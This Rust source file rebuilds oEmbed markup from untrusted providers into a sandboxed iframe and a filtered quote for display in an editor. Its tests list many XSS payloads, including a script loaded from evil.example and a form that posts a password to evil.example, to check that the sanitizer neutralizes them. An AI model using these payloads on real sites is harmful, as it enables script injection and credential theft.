//! The `html` of a provider's answer, made fit to be shown in an editor.
//!
//! A trusted provider's markup is kept. That of a page which merely named an endpoint is not: **we
//! build new tags from the few values that we understand**, so that whatever a browser would have
//! made of the original never reaches one.

use frame::text::escaped;
use std::fmt::Write as _;

use serde_json::{Map, Value};
use url::Url;

use super::html::{Scanner, Tag, Token, decoded};

/// Bytes of a provider's markup that are looked at.
const MARKUP_BYTES_MAX: usize = 256 * 1024;
/// Digits of a frame's width or height.
const SIZE_DIGITS_MAX: usize = 5;

/// Attributes of a frame that are sizes.
const FRAME_SIZES: &[&str] = &["width", "height", "frameborder", "marginwidth", "marginheight"];

/// Who vouches for the answer.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Origin {
    /// A provider of our own list.
    Trusted,
    /// The page itself named its endpoint.
    Discovered,
}

/// The markup for an answer about `page`, or `false` if there is none that is safe.
pub fn html(answer: &Map<String, Value>, page: &Url, origin: Origin, secret: &str) -> Value {
    let markup = match answer.get("type").and_then(Value::as_str) {
        Some("photo") => photo(answer, page),
        Some("link") => link(answer, page),
        Some("rich" | "video") => framed(answer, origin, secret),
        _ => None,
    };
    markup.map_or(Value::Bool(false), Value::String)
}

fn photo(answer: &Map<String, Value>, page: &Url) -> Option<String> {
    let image = web_address(answer.get("url")?.as_str()?)?;
    let (width, height) = (number(answer, "width")?, number(answer, "height")?);
    Some(format!(
        "<a href=\"{}\"><img src=\"{}\" alt=\"{}\" width=\"{width}\" height=\"{height}\" /></a>",
        escaped(page.as_str()),
        escaped(image.as_str()),
        escaped(title(answer).unwrap_or_default()),
    ))
}

fn link(answer: &Map<String, Value>, page: &Url) -> Option<String> {
    let title = title(answer)?;
    Some(format!("<a href=\"{}\">{}</a>", escaped(page.as_str()), escaped(title)))
}

fn framed(answer: &Map<String, Value>, origin: Origin, secret: &str) -> Option<String> {
    let markup = answer.get("html")?.as_str()?;
    if markup.is_empty() || markup.len() > MARKUP_BYTES_MAX {
        return None;
    }
    match origin {
        Origin::Trusted => Some(with_frame_title(&on_one_line(markup), title(answer))),
        Origin::Discovered => sandboxed(markup, title(answer), secret),
    }
}

fn title(answer: &Map<String, Value>) -> Option<&str> {
    answer.get("title").and_then(Value::as_str).filter(|title| !title.is_empty())
}

/// A number above zero, also one written as a text, as XML writes them.
fn number(answer: &Map<String, Value>, name: &str) -> Option<u32> {
    let number = match answer.get(name)? {
        Value::Number(number) => u32::try_from(number.as_u64()?).ok()?,
        Value::String(text) => text.parse().ok()?,
        _ => return None,
    };
    (number > 0).then_some(number)
}

fn web_address(text: &str) -> Option<Url> {
    let address = Url::parse(text.trim()).ok()?;
    matches!(address.scheme(), "http" | "https").then_some(address)
}

/// Without line ends, which an editor would turn into paragraphs; those of preformatted text stay.
fn on_one_line(markup: &str) -> String {
    let lower = markup.to_ascii_lowercase();
    let mut out = String::with_capacity(markup.len());
    let mut place = 0;
    while let Some(rest) = lower.get(place..).filter(|rest| !rest.is_empty()) {
        let start = rest.find("<pre").map_or(lower.len(), |found| place + found);
        let end = lower.get(start..).and_then(|text| text.find("</pre")).map(|found| start + found);
        let end = end.unwrap_or(lower.len());
        let flowing = markup.get(place..start).unwrap_or_default();
        out.extend(flowing.chars().filter(|character| !matches!(character, '\r' | '\n')));
        out.push_str(markup.get(start..end).unwrap_or_default());
        // The mark itself would be found again.
        let mark = lower.get(end..).map_or(0, |text| text.len().min("</pre".len()));
        out.push_str(markup.get(end..end + mark).unwrap_or_default());
        place = end + mark;
    }
    out
}

/// Gives the first frame the answer's title, if it has none: screen readers say it.
fn with_frame_title(markup: &str, title: Option<&str>) -> String {
    const FRAME: &str = "<iframe";
    let insertion = title.and_then(|title| {
        let start = markup.to_ascii_lowercase().find(FRAME)?;
        let frame = Scanner::new(markup.get(start..)?).next()?;
        let Token::Start(tag) = frame else { return None };
        let lacks_title = tag.name == "iframe" && tag.attribute("title").is_none();
        lacks_title.then_some((start + FRAME.len(), title))
    });
    let Some((place, title)) = insertion else {
        return markup.to_owned();
    };
    let (before, after) = markup.split_at(place);
    format!("{before} title=\"{}\"{after}", escaped(title))
}

/// The first quote, with its text and links, and the first frame, in a sandbox. Without a frame
/// there is nothing to show.
fn sandboxed(markup: &str, title: Option<&str>, secret: &str) -> Option<String> {
    let mut quote = Quote::default();
    let mut frame = None;
    for token in Scanner::new(markup) {
        match token {
            Token::Start(tag) if tag.name == "iframe" => {
                frame = frame.or_else(|| sandboxed_frame(&tag, title, secret));
            }
            other => quote.take(other),
        }
    }
    let secret = escaped(secret);
    let quote = quote.finish().map(|text| {
        format!(
            "<blockquote class=\"wp-embedded-content\" data-secret=\"{secret}\">{text}</blockquote>"
        )
    });
    Some(format!("{}{}", quote.unwrap_or_default(), frame?))
}

fn sandboxed_frame(tag: &Tag, title: Option<&str>, secret: &str) -> Option<String> {
    let mut source = web_address(tag.attribute("src")?)?;
    source.set_fragment(Some(&format!("?secret={secret}")));
    let mut frame = format!(
        "<iframe class=\"wp-embedded-content\" sandbox=\"allow-scripts\" security=\"restricted\" \
         src=\"{}\" data-secret=\"{}\"",
        escaped(source.as_str()),
        escaped(secret)
    );
    let mut add = |name: &str, value: &str| {
        let _ = write!(frame, " {name}=\"{}\"", escaped(value));
    };
    for name in FRAME_SIZES {
        if let Some(size) = tag.attribute(name).filter(|size| is_size(size)) {
            add(name, size);
        }
    }
    if let Some(scrolling @ ("no" | "yes" | "auto")) = tag.attribute("scrolling") {
        add("scrolling", scrolling);
    }
    let own_title = tag.attribute("title").filter(|title| !title.is_empty());
    if let Some(title) = own_title.or(title) {
        add("title", title);
    }
    frame.push_str("></iframe>");
    Some(frame)
}

fn is_size(text: &str) -> bool {
    let digits = text.strip_suffix('%').unwrap_or(text);
    (1..=SIZE_DIGITS_MAX).contains(&digits.len()) && digits.bytes().all(|b| b.is_ascii_digit())
}

/// The text of the first quote, in the making.
#[derive(Default)]
struct Quote {
    text: String,
    /// Quotes within the quote are open, itself included.
    depth: usize,
    is_over: bool,
    in_link: bool,
}

impl Quote {
    fn take(&mut self, token: Token<'_>) {
        if self.is_over {
            return;
        }
        match token {
            Token::Start(tag) if tag.name == "blockquote" => self.depth += 1,
            Token::End(name) if name == "blockquote" && self.depth > 0 => {
                self.depth -= 1;
                self.is_over = self.depth == 0;
            }
            _ if self.depth == 0 => {}
            Token::Start(tag) if tag.name == "a" => {
                self.close_link();
                if let Some(target) = tag.attribute("href").and_then(web_address) {
                    let _ = write!(self.text, "<a href=\"{}\">", escaped(target.as_str()));
                    self.in_link = true;
                }
            }
            Token::End(name) if name == "a" => self.close_link(),
            Token::Text(text) => self.text.push_str(&escaped(&decoded(text))),
            Token::Start(_) | Token::End(_) => {}
        }
    }

    fn close_link(&mut self) {
        if std::mem::take(&mut self.in_link) {
            self.text.push_str("</a>");
        }
    }

    /// `None` if there was no quote.
    fn finish(mut self) -> Option<String> {
        let has_begun = self.is_over || self.depth > 0;
        self.close_link();
        has_begun.then_some(self.text)
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn make(answer: Value, origin: Origin) -> Value {
        let page = Url::parse("https://page.example/a?b=1&c=2").unwrap();
        html(answer.as_object().unwrap(), &page, origin, "SECRET")
    }

    #[test]
    fn photos_and_links_are_built_from_their_fields() {
        let check = |answer: Value, expected: Value| {
            assert_eq!(make(answer.clone(), Origin::Discovered), expected, "{answer}");
            assert_eq!(make(answer.clone(), Origin::Trusted), expected, "{answer}");
        };
        let photo = "<a href=\"https://page.example/a?b=1&amp;c=2\">\
                     <img src=\"https://cdn.example/i.png\" alt=\"A &lt;b&gt;\" width=\"30\" \
                     height=\"20\" /></a>";
        let url = "https://cdn.example/i.png";
        check(
            json!({ "type": "photo", "url": url, "width": 30, "height": "20", "title": "A <b>" }),
            json!(photo),
        );
        check(json!({ "type": "photo", "url": url, "width": 30 }), json!(false));
        check(json!({ "type": "photo", "url": url, "width": 0, "height": 1 }), json!(false));
        check(
            json!({ "type": "photo", "url": "javascript:x()", "width": 1, "height": 1 }),
            json!(false),
        );
        check(
            json!({ "type": "photo", "url": url, "width": "1\" onerror=\"x", "height": 1 }),
            json!(false),
        );
        check(
            json!({ "type": "link", "title": "<script>" }),
            json!("<a href=\"https://page.example/a?b=1&amp;c=2\">&lt;script&gt;</a>"),
        );
        check(json!({ "type": "link" }), json!(false));
        check(json!({ "type": "other", "html": "<b>" }), json!(false));
        check(json!({ "html": "<b>" }), json!(false));
        check(json!({ "type": "rich", "html": ["<b>"] }), json!(false));
        check(json!({ "type": "video", "html": "" }), json!(false));
    }

    #[test]
    fn trusted_markup_is_kept_on_one_line_and_its_frame_named() {
        let check = |markup: &str, expected: &str| {
            let answer = json!({ "type": "video", "html": markup, "title": "T \"1\"" });
            assert_eq!(make(answer, Origin::Trusted), json!(expected), "{markup}");
        };
        check("<p>\r\na\nb</p>", "<p>ab</p>");
        check("a\n<PRE>b\nc</PRE>\nd\n<pre>e\n", "a<PRE>b\nc</PRE>d<pre>e\n");
        check("<iframe src='x'></iframe>", "<iframe title=\"T &quot;1&quot;\" src='x'></iframe>");
        check("<iframe title=own></iframe>", "<iframe title=own></iframe>");
        check("<iframes>", "<iframes>");
        check("é<script src=x></script>", "é<script src=x></script>");
    }

    const FRAME: &str = "<iframe class=\"wp-embedded-content\" sandbox=\"allow-scripts\" \
                         security=\"restricted\" src=\"https://a.example/e#?secret=SECRET\" \
                         data-secret=\"SECRET\"";

    #[test]
    fn discovered_markup_is_rebuilt() {
        let check = |markup: &str, quote: Option<&str>, attributes: &str| {
            let answer = json!({ "type": "rich", "html": markup });
            let quote = quote.map(|text| {
                format!(
                    "<blockquote class=\"wp-embedded-content\" data-secret=\"SECRET\">{text}\
                     </blockquote>"
                )
            });
            let expected = format!("{}{FRAME}{attributes}></iframe>", quote.unwrap_or_default());
            assert_eq!(make(answer, Origin::Discovered), json!(expected), "{markup}");
        };
        check("<iframe src=https://a.example/e></iframe>", None, "");
        check(
            "<iframe src='https://a.example/e#x' width=600 height='50%' scrolling=no \
             title='&quot;t&quot;' sandbox='allow-same-origin' style=x class=y></iframe>",
            None,
            " width=\"600\" height=\"50%\" scrolling=\"no\" title=\"&quot;t&quot;\"",
        );
        check(
            "<blockquote class=x><p>Hi <a href='https://b.example/?a&amp;b' onclick=x>the<b>re</a>\
             </blockquote><blockquote>two</blockquote><iframe src=https://a.example/e>",
            Some("Hi <a href=\"https://b.example/?a&amp;b\">there</a>"),
            "",
        );
        // Only the first frame counts, and it may stand within the quote.
        check(
            "<blockquote>a<blockquote>b</blockquote>c<iframe src=https://a.example/e></iframe>d\
             </blockquote><iframe src=https://z.example/></iframe>",
            Some("abcd"),
            "",
        );
    }

    #[test]
    fn attacks_in_discovered_markup_come_to_nothing() {
        let good = "<iframe src=\"https://a.example/e\"></iframe>";
        let attacks = [
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js></sCrIpT >",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<blockquote onmouseover=alert(1)>q</blockquote>",
            "<blockquote><script>alert(1)</script></blockquote>",
            "<blockquote>&lt;script&gt;alert(1)&lt;/script&gt;</blockquote>",
            "<blockquote><<script>script>alert(1)<</script>/script></blockquote>",
            "<blockquote><a href=\"javascript:alert(1)\">x</a></blockquote>",
            "<blockquote><a href=\"java\nscript:alert(1)\">x</a></blockquote>",
            "<blockquote><a href=\"&#106;avascript:alert(1)\">x</a></blockquote>",
            "<blockquote><a href=\" data:text/html,<script>alert(1)</script>\">x</a></blockquote>",
            "<blockquote><a href='https://x.example/\" onclick=\"alert(1)'>x</a></blockquote>",
            "<blockquote><a href=\"https://x.example/\" onclick=alert(1)>x</a></blockquote>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
            "<iframe src=\"//evil.example/\" onload=alert(1)></iframe>",
            "<iframe/src=vbscript:x/onload=alert(1)></iframe>",
            "<!--><script>alert(1)</script>-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<math><annotation-xml encoding='text/html'><script>alert(1)</script>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<textarea></textarea><script>alert(1)</script>",
            "<style><img title=\"</style><img src=x onerror=alert(1)>\">",
            "<form action=https://evil.example/><input name=password>",
            "<object data=https://evil.example/></object><embed src=https://evil.example/>",
            "<base href=https://evil.example/><meta http-equiv=refresh content=0>",
        ];
        for attack in attacks {
            for markup in [format!("{attack}{good}"), format!("{good}{attack}"), attack.into()] {
                let answer = json!({ "type": "rich", "html": markup, "title": "'\"><script>" });
                let made = make(answer, Origin::Discovered);
                if let Some(made) = made.as_str() {
                    assert_is_harmless(made, &markup);
                } else {
                    assert_eq!(made, json!(false), "{markup}");
                }
            }
        }
    }

    /// Every `<` starts one of our own tags, with our own attributes only.
    fn assert_is_harmless(made: &str, markup: &str) {
        let starts = ["<blockquote class=\"", "</blockquote>", "<a href=\"http", "</a>"];
        for (place, _) in made.match_indices('<') {
            let rest = &made[place..];
            let is_ours = starts.iter().any(|start| rest.starts_with(start))
                || rest
                    .starts_with("<iframe class=\"wp-embedded-content\" sandbox=\"allow-scripts\"")
                || rest.starts_with("</iframe>");
            assert!(is_ours, "{markup} became {made}");
        }
        for token in Scanner::new(made) {
            let Token::Start(tag) = token else { continue };
            for (name, value) in &tag.attributes {
                let allowed: &[&str] = match tag.name.as_str() {
                    "a" => &["href"],
                    "blockquote" => &["class", "data-secret"],
                    _ => &["class", "sandbox", "security", "src", "data-secret", "title", "width"],
                };
                assert!(allowed.contains(&name.as_str()), "{markup} became {made}");
                if name == "href" || name == "src" {
                    assert!(web_address(value).is_some(), "{markup} became {made}");
                }
            }
        }
        assert_eq!(made.matches("<iframe").count(), 1, "{markup} became {made}");
    }

    #[test]
    fn a_frame_is_required() {
        let check = |markup: &str| {
            let answer = json!({ "type": "rich", "html": markup });
            assert_eq!(make(answer, Origin::Discovered), json!(false), "{markup}");
        };
        check("<blockquote>only a quote</blockquote>");
        check("<iframe></iframe>");
        check("<iframe src=\"https://a.example");
        check(&"<iframe src=https://a.example/>".repeat(MARKUP_BYTES_MAX / 10));
    }

    #[test]
    fn no_markup_makes_it_panic_or_leak() {
        let words = "(<blockquote>|</blockquote>|<a href='|<iframe src=https://a.example/|<pre>|\
                     </pre>|<script>|'|\"|>|<|&|;|\n|é|x| |javascript:){0,25}";
        proptest::proptest!(|(markup in words)| {
            for origin in [Origin::Trusted, Origin::Discovered] {
                let answer = json!({ "type": "rich", "html": markup, "title": "t" });
                let made = make(answer, origin);
                if let (Origin::Discovered, Some(made)) = (origin, made.as_str()) {
                    assert_is_harmless(made, &markup);
                }
            }
        });
    }
}
